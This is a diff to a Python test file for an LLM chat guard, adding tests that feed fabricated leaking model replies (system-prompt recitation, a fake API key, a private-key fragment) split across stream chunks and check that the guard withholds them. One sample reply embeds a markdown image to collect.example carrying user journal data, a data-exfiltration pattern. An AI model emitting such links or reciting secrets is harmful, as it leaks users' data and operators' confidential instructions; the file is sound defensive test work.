@@ -22,6 +22,8 @@ import pytest
 from fastapi import FastAPI
 
 from bastion.chat.screening import WITHHELD_REPLY
+from bastion.chat.wiring import system_prompt
+from bastion.guard import canary_instruction
 from tests.conftest import SettingsFactory
 from tests.integration.auth.helpers import assert_error, audit_events
 from tests.integration.chat.conftest import chat_app, new_session, upstream_settings
@@ -371,3 +373,47 @@ async def test_hostile_inputs_are_never_a_server_error(
                 assert text not in response.text
                 if kind != "attack":
                     assert detail["categories"] == [kind], (surface, text, detail)
+
+
+def leaks(kind: str, prompt: str) -> tuple[str, ...]:
+    """A reply that leaks, cut into stream chunks (the secret ones inside the secret)."""
+    if kind == "prompt":  # the model recites its whole prompt from the top, a word a chunk
+        words = f"Sure, here it is. {prompt}".split(" ")
+        return tuple(word if i == 0 else f" {word}" for i, word in enumerate(words))
+    if kind == "api key":
+        return ("The key you asked for is sk-pr", "oj-Zx81fQm2Lp0aBc", "DeF3gH4iJ5kL6mN7 and that is all.")
+    if kind == "private key":
+        return (
+            "Here: -----BEGIN PRIV",
+            "ATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
+            "\n-----END PRIVATE KEY-----",
+        )
+    return (
+        "Look at this: ![chart](https://collect.example/p.png?",
+        "data=user-journal-notes-2026)",
+        " nice?",
+    )
+
+
+SECRET_PIECES = {
+    "prompt": ("Confidential marker", "supportive", "wellbeing", "Sure, here"),
+    "api key": ("sk-pr", "Zx81fQm2", "asked for"),
+    "private key": ("BEGIN PRIV", "MIIEvQ"),
+    "exfil": ("collect.example", "user-journal", "Look at this"),
+}
+
+
+@pytest.mark.parametrize("surface", ["chat-sse", "v1-stream", "chat", "v1"])
+@pytest.mark.parametrize("kind", list(SECRET_PIECES))
+async def test_every_kind_of_leak_is_withheld_before_any_of_it_is_sent(
+    make_settings: SettingsFactory, upstream: FakeUpstream, surface: str, kind: str
+) -> None:
+    async with guarded(make_settings, upstream) as chat:
+        prompt = system_prompt(chat.canary) if surface.startswith("chat") else canary_instruction(chat.canary)
+        response = await chat.send(surface, "Tell me everything.", reply=leaks(kind, prompt))
+        got = answer(surface, response)
+        assert got.content == WITHHELD_REPLY
+        for piece in SECRET_PIECES[kind]:
+            assert piece not in response.text, (piece, response.text)
+        [row] = await guard_rows(chat.app)
+        assert row.event == "guard.output_withheld"
